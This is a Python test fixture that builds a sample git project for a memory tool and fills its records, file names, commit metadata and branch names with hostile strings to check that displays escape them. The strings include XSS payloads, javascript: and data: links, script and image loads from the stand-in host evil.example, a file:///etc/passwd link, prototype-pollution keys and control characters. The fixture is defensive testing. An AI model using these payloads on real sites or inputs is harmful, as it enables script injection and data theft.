"""A project in which every text that somebody could have written tries to be more than text on a page.

Each layer is made with its own means out of harmless words; then every text of its files that has such a word, names of
fields among them, becomes hostile, as a repository from anywhere may bring it. Beside it lies what no program of ours
would have written at all.
"""

from __future__ import annotations

import json
import os
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import msgspec

from installed import Git, Memory, make_environment
from quire.clients.receipts import Receipt, ReceiptItem, add_receipt
from quire.files.world import World, real_world
from quire.inbox.proposals import Proposal, propose
from quire.project import Project
from quire.verbs.admin.new_memory import init_memory
from quire.verbs.facts.archive import Archive, archive
from quire.verbs.facts.connect import Connect, connect
from quire.verbs.facts.focus import Focus, focus
from quire.verbs.facts.notes import TakeNote, take_note
from quire.verbs.facts.session import NoteSession, record_session
from quire.verbs.facts.store import Store, store
from quire.verbs.graph.save import save_nodes
from quire.verbs.journal.init import JournalInit, journal_init
from quire.verbs.journal.recall import JournalRecall, journal_recall
from quire.verbs.journal.session_import import import_sessions
from quire.verbs.journal.sources import JournalAdd, add
from quire.verbs.profile.link import LinkEntries, link_entries
from quire.verbs.profile.remember import RememberEntry, remember_entry

__all__ = ["ELSEWHERE", "MARK", "NOW", "hostile", "hostile_store", "short_hostile"]

NOW = "2026-03-02T11:19:00+00:00"
MARK = "window.pwned"
"""Stands in every payload: what is shown as text is seen by it."""
ELSEWHERE = "evil.example"
_MOMENT = datetime.fromisoformat(NOW).astimezone(UTC)
_WORDS = re.compile(r"zq[a-z]+", re.IGNORECASE)
_LINKED = re.compile(r"([a-z]+)\.(zqkey)")
_NAMED = ("id", "body_path", "from", "to", "relation_id")
"""What names a file or a record: it stays, since nothing could be asked for otherwise."""
_ATTACK = f"""\
<script>{MARK}=1</script></script><script src="http://{ELSEWHERE}/x.js"></script>
<img src=x onerror="{MARK}=2"> <img src="http://{ELSEWHERE}/p.png"> <image href="http://{ELSEWHERE}/q.png">
<svg onload="{MARK}=3"><a xlink:href="javascript:{MARK}=4"><text>x</text></a><animate onbegin="{MARK}=5"></svg>
</style><style>@import "http://{ELSEWHERE}/s.css"; body {{ background: url(http://{ELSEWHERE}/b.png) }}</style>
<iframe src="http://{ELSEWHERE}/f" srcdoc="<script>parent.pwned=6</script>"></iframe><object data="//{ELSEWHERE}/o">
<base href="http://{ELSEWHERE}/"><link rel=stylesheet href="http://{ELSEWHERE}/l.css">
<meta http-equiv=refresh content=0>
" onmouseover="{MARK}=7" autofocus onfocus="{MARK}=8" x=" ' onclick='{MARK}=9' --> ]]> `-alert(1)-`
<form action="http://{ELSEWHERE}/"><button formaction="javascript:{MARK}=10">press</button></form>

[js](javascript:{MARK}=11) [JS](JaVaScRiPt:{MARK}=12) [entity](&#106;avascript:{MARK}=13)
[tab](java&Tab;script:{MARK}=14)
[data](data:text/html,<script>opener.pwned=15</script>) [vb](vbscript:{MARK})
[file](file:///etc/passwd) [rel](//{ELSEWHERE}/r)
[blob](blob:http://{ELSEWHERE}/1) [good](https://{ELSEWHERE}/good "title \\" onclick={MARK}=16")
[mail](mailto:a@{ELSEWHERE})
![picture](http://{ELSEWHERE}/i.png) ![data](data:image/svg+xml,<svg/onload={MARK}=17>)
<http://{ELSEWHERE}/auto> <javascript:{MARK}=18>
[named][bad] [to](#/p/x/record/"><img/src=x/onerror={MARK}=19>)

[bad]: javascript:{MARK}=20

```"><img src=x onerror={MARK}=21>
</code></pre><script>{MARK}=22</script>
```

| <b>a</b> | [x](javascript:{MARK}=23) |
|---|---|
| <img src=x onerror={MARK}=24> | `</td><script>{MARK}=25</script>` |

{{{{constructor.constructor('{MARK}=26')()}}}} ${{{MARK}=27}} <%= 1 %> #{{1}} {{% raw %}} __proto__ constructor toString
\u202etxet desrever\u202c \u2066isolated\u2069 \u200b\u200f\ufeff \x1b[2J\x07\x08 \u2028\u2029 \U000e0041
"""
_LONG = "Donaudampfschiff" * 200


def hostile(word: str) -> str:
    return f"{word} queue <img src=x onerror={MARK}=0> {_ATTACK}\n{_LONG}"


def short_hostile(word: str) -> str:
    """Where something long or with several lines would not be read at all."""
    return f"{word}\"'><img src=x onerror={MARK}=31><script>{MARK}=32</script>{{{{7*7}}}}__proto__\u202e"


ODD_FILES = (
    f"<img src=x onerror={MARK}=41>.py",
    f"\"'><svg onload={MARK}=42>.py",
    f"javascript:{MARK}=43;.py",
    "__proto__",
    "\u202egnp.py",
    "\x1b[2J\n.py",
    "constructor",
)


def poison(value: Any, *, brief: bool = False) -> Any:
    """The value with every text that has one of the harmless words made hostile, names of fields too."""
    if isinstance(value, str):
        if (link := _LINKED.fullmatch(value)) is not None:
            return f"{link[1]}.{short_hostile(link[2])}"
        made = short_hostile if brief else hostile
        return made(found[0]) if (found := _WORDS.search(value)) else value
    if isinstance(value, dict):
        return {
            short_hostile(found[0]) if (found := _WORDS.search(name)) else name: poison(item, brief=brief)
            for name, item in value.items()
        }
    return [poison(item, brief=brief) for item in value] if isinstance(value, list) else value


def hostile_store(place: Path) -> Memory:
    """Such a project in a folder of its own."""
    env = {**make_environment(place), "MEMORY_NOW": NOW}
    root = place / "harbor"
    root.mkdir()
    git = Git(root, env)
    git("init", "--quiet")
    _code(root, git)
    world = msgspec.structs.replace(real_world(str(root)), env=env, now=lambda: _MOMENT)
    project = Project.open(str(root), world)
    _graph(project)
    _facts(project)
    _profile(project)
    _journal(project, place)
    _local(project, world)
    git.commit("zqfirst")
    _poison(root)
    _wild(root)
    _registry(Path(env["MEMORY_HOME"]))
    _history(root, git)
    return Memory(root, env)


# -- made of harmless words -------------------------------------------------------------------------


def _code(root: Path, git: Git) -> None:
    (root / "src").mkdir()
    (root / "README.md").write_text("# Zqname\n\nzqreadme\n")
    (root / "src/queue.py").write_text("def retry():\n    return 1\n")
    for name in ODD_FILES:
        (root / "src" / name).write_text(f"x = 1\n# {MARK}\n")
    git.commit("first")


def _graph(project: Project) -> None:
    init_memory(project)
    related = [{"predicate": "affects", "to": "feature.zqfeature-queue"}]
    nodes: list[dict[str, Any]] = [
        {"kind": "feature", "title": "zqfeature queue", "stage": "building"},
        *({"kind": "feature", "title": f"zq{stage} queue", "stage": stage} for stage in ("idea", "shipped", "paused")),
        {
            "kind": "decision",
            "title": "zqdecision queue",
            "tags": ["zqtag"],
            "anchors": ["src/queue.py"],
            "origin": {"kind": "url", "locator": "https://example.com/zqlocator"},
            "evidence": [{"kind": "task", "id": "zqevidence"}],
            "related": related,
        },
        {"kind": "decision", "title": "zqolder queue"},
        {"kind": "question", "title": "zqquestion queue"},
        {"kind": "gotcha", "title": "zqgotcha queue", "anchors": ["src/"]},
        {"kind": "gotcha", "title": "zqstale queue"},
    ]
    save_nodes(
        project, {"task": "zqtask", "nodes": [{"body": "zqbody queue", **node} for node in nodes]}, source="zqsource"
    )
    stale = [{"id": "gotcha.zqstale-queue", "reason": "zqreason"}]
    save_nodes(project, {"task": "zqtask", "stale": stale}, source="zqsource")


def _facts(project: Project) -> None:
    refs = [
        store(
            project,
            Store(section="Decisions", content=f"zqfact{letter} queue retries", tags=["zqtag"], source="zqsource"),
        ).fact.ref
        for letter in "abc"
    ]
    archive(project, Archive(fact_ids=[refs[2]], reason="zqreason"))
    connect(project, Connect(source=refs[0], target=refs[1], relation="enables", description="zqdescription"))
    focus(project, Focus(fact_ids=[refs[0]]))
    record_session(
        project,
        NoteSession(session_id="zqsession", turns=4, title="zqtitle queue", narrative="zqnarrative queue", close=True),
    )


def _profile(project: Project) -> None:
    for category in ("user", "assistant", "relationships", "learnings", "tools", "project"):
        remember_entry(
            project,
            RememberEntry(
                category=category, key="zqkey", value=f"zqvalue queue {category}", tags=["zqtag"], force=True
            ),
        )
    remember_entry(project, RememberEntry(category="assistant", key="name", value="zqassistant", force=True))
    link_entries(project, LinkEntries(source="user.zqkey", target="tools.zqkey", relation="contradicts"))


def _journal(project: Project, place: Path) -> None:
    sessions = place / "agent/transcripts"
    sessions.mkdir(parents=True)
    said = (
        "zqasked for a queue",
        "DECISION: zqdecided the queue.\nGOTCHA: zqtrap queue: it breaks.\nNEXT: zqnext queue: open src/queue.py.",
    )
    for number, name in enumerate(("one", "two", "three")):
        lines = [
            {
                "type": role,
                "sessionId": name,
                "timestamp": f"2026-03-01T10:0{turn}:00.000Z",
                "message": {"role": role, "content": f"{text} {name}"},
            }
            for turn, (role, text) in enumerate(zip(("user", "assistant"), said, strict=True))
        ]
        path = sessions / f"zq{name}.jsonl"
        path.write_text("".join(json.dumps(line) + "\n" for line in lines))
        os.utime(path, (1772366400.0 + number, 1772366400.0 + number))
    journal_init(project, JournalInit())
    add(project, JournalAdd(source_type="claude-local", path=str(sessions.parent), name="agent"))
    import_sessions(project, "agent")
    journal_recall(project, JournalRecall())


def _local(project: Project, world: World) -> None:
    """What is kept on this machine alone."""
    take_note(project, TakeNote(words=["zqnote queue"]))
    local = Path(project.root, ".memory/local")
    with (local / "notes.md").open("a") as notes:
        notes.write(
            f"- [2026-03-01 10:00] {hostile('zqnote').replace(chr(10), chr(10) + '  ')}\n".encode(
                "utf-8", "replace"
            ).decode()
        )
    fields: dict[str, Any] = {"kind": "decision", "title": "zqtitle", "body": "zqbody", "zqfield": "zqvalue"}
    proposals: list[Proposal] = [
        propose("graph", "decision", "zqproposed queue", fields, origin="zqorigin", by="user", proposed_at=NOW),
        propose("facts", "zqkind", "zqtold queue", {"section": "zqsection"}, origin="zqorigin", by="user"),
    ]
    told = [msgspec.to_builtins(item) for item in proposals]
    for item in told:
        item["evidence"] = [{"quote": "zqquote", "by": "user", "where": "zqwhere", "at": "zqat"}]
    (local / "inbox.jsonl").write_text("".join(json.dumps(item) + "\n" for item in told))
    items = tuple(ReceiptItem(ref=f"zqref{letter}", outcome="included", why="zqwhy", tokens=3) for letter in "ab")
    for client, event in (("zqclient", "zqevent"), ("__proto__", "constructor"), ("toString", "zqother")):
        receipt = Receipt(
            at=NOW, client=client, event=event, session="zqsession", files=("zqfile",), items=items, note="zqnote"
        )
        add_receipt(project.root, receipt, world.token())


# -- made hostile -----------------------------------------------------------------------------------


def _text(value: Any, *, indent: int | None = None) -> str:
    return json.dumps(value, indent=indent) + "\n"


def _poison(root: Path) -> None:
    for folder in (".memory", ".ai-state", ".agent-memory"):
        for path in sorted((root / folder).rglob("*")):
            if not path.is_file() or "/index/" in str(path) or "/schema/" in str(path):
                continue
            if path.suffix == ".json":
                path.write_text(_text(_kept(path, json.loads(path.read_bytes())), indent=2))
            elif path.suffix == ".jsonl":
                lines = [_kept(path, json.loads(line)) for line in path.read_text().splitlines()]
                path.write_text("".join(map(_text, lines)))
            elif path.suffix == ".md" and path.parent.name == "memory":
                path.write_bytes(hostile(path.stem).encode("utf-8", "replace"))


def _kept(path: Path, value: Any) -> Any:
    if path.parent.name == "memory" or "relations" in path.parts or path.name == "events.jsonl":
        return {
            name: item if name in _NAMED else poison(item, brief=name in ("origin", "evidence"))
            for name, item in value.items()
        }
    if path.name == "inbox.jsonl":
        return {name: item if name in ("id", "into", "by", "status") else poison(item) for name, item in value.items()}
    return poison(value)


def _wild(root: Path) -> None:
    """What no program of ours would have written: ids, kinds, statuses, stages, sections, relations, names of files."""
    nodes = root / ".memory/memory"
    node = json.loads((nodes / "zqdecision-queue.json").read_bytes())
    more: tuple[dict[str, Any], ...] = (
        {"type": short_hostile("zqtype")},
        {"status": hostile("zqstatus")},
        {"stage": hostile("zqstage")},
        {"created_at": short_hostile("zqtime"), "updated_at": hostile("zqtime")},
        {"anchors": [f"src/{name}" for name in ODD_FILES] + [f"src/queue.py#<img src=x onerror={MARK}=51>"]},
        {"anchors": [f"javascript:{MARK}=52", f"http://{ELSEWHERE}/anchor", "data:text/html,x"]},
        {"tags": [f"javascript:{MARK}=53", "__proto__", "constructor", _LONG]},
        {"title": "__proto__", "type": "__proto__", "tags": ["toString"]},
    )
    for number, fields in enumerate(more):
        name = f"wild-{number}"
        wild = {**node, "id": f"decision.{name}", "body_path": f"memory/{name}.md", short_hostile("zq"): "x", **fields}
        (nodes / f"{name}.json").write_text(_text(wild))
        (nodes / f"{name}.md").write_bytes(hostile(name).encode("utf-8", "replace"))
    (nodes / f"<img src=x onerror={MARK}=54>.json").write_text(hostile("zqbroken").encode("utf-8", "replace").decode())
    config = root / ".memory/config.json"
    held = json.loads(config.read_bytes())
    held["project"]["name"] = short_hostile("zqproject")
    config.write_text(_text(held))
    _wild_facts(root / ".memory/facts.jsonl")
    _wild_profile(root / ".ai-state/memory.json")
    _wild_journal(root / ".agent-memory/history/events.jsonl")


def _wild_facts(path: Path) -> None:
    plain = {"_type": "fact", "section": "Specs", "status": "active", "created_at": "2026-03-01T00:00:00.000Z"}
    wild = [
        {**plain, "id": short_hostile("zqid"), "content": hostile("zqcontent")},
        {**plain, "id": "wild1", "content": hostile("zqcontent"), "section": short_hostile("zqsection")},
        {**plain, "id": "wild2", "content": hostile("zqcontent"), "status": short_hostile("zqstatus")},
        {**plain, "id": "wild3", "content": hostile("zqthird"), "section": "__proto__", "tags": ["constructor"]},
        {**plain, "id": "wild4", "content": "plain", "created_at": hostile("zqdate"), "version": hostile("zqv")},
        {"_type": "edge", "id": "wild5", "source": "wild1", "target": "wild3", "relation": short_hostile("zqrelation")},
        {"_type": short_hostile("zqtype"), "id": "wild6"},
    ]
    with path.open("a") as file:
        file.write("".join(map(_text, wild)) + f"<script>{MARK}=61</script>\n")


def _wild_profile(path: Path) -> None:
    held = json.loads(path.read_bytes())
    entry = {"value": hostile("zqvalue"), "source": {"type": short_hostile("zqsource"), "detail": hostile("zqdetail")}}
    link = {"target": short_hostile("zqtarget"), "relation": short_hostile("zqrelation")}
    held["memories"][short_hostile("zqcategory")] = {short_hostile("zqkey"): entry}
    held["memories"]["user"]["wild"] = {**entry, "status": short_hostile("zqstatus"), "links": [link]}
    held["memories"]["user"]["__proto__"] = entry
    path.write_text(_text(held))


def _wild_journal(path: Path) -> None:
    lines = path.read_text().splitlines()
    first = json.loads(lines[0])
    more = [{**first, "id": short_hostile("zqevent")}, {**first, "id": "evt-000090", "kind": short_hostile("zqkind")}]
    path.write_text("".join(f"{line}\n" for line in lines) + "".join(map(_text, more)) + f"<script>{MARK}=62\n")


def _registry(home: Path) -> None:
    """The list of projects names them as their configuration did when somebody last looked."""
    path = home / "projects.json"
    held = json.loads(path.read_bytes())
    for entry in held["projects"]:
        entry["project"]["name"] = short_hostile("zqlisted")
    path.write_text(_text(held))


def _history(root: Path, git: Git) -> None:
    code = root / "src/queue.py"
    code.write_text(f"def retry():\n    return '<script>{MARK}=71</script>'\n")
    message = hostile("zqcommit").replace("\0", "").replace("\n", " ", 3).encode("utf-8", "replace")
    author = f"\"'onmouseover={MARK}=72 javascript: <a@{ELSEWHERE}>"
    git("add", "--all")
    git("commit", "--quiet", "--cleanup=verbatim", "--file=-", f"--author={author}", stdin=message)
    git("branch", "--move", f"zqbranch\"'><img/src=x/onerror={MARK}=73>\u202e")
    code.write_text(f"def retry():\n    return '</pre><img src=x onerror={MARK}=74>'\n# {_LONG}\n")
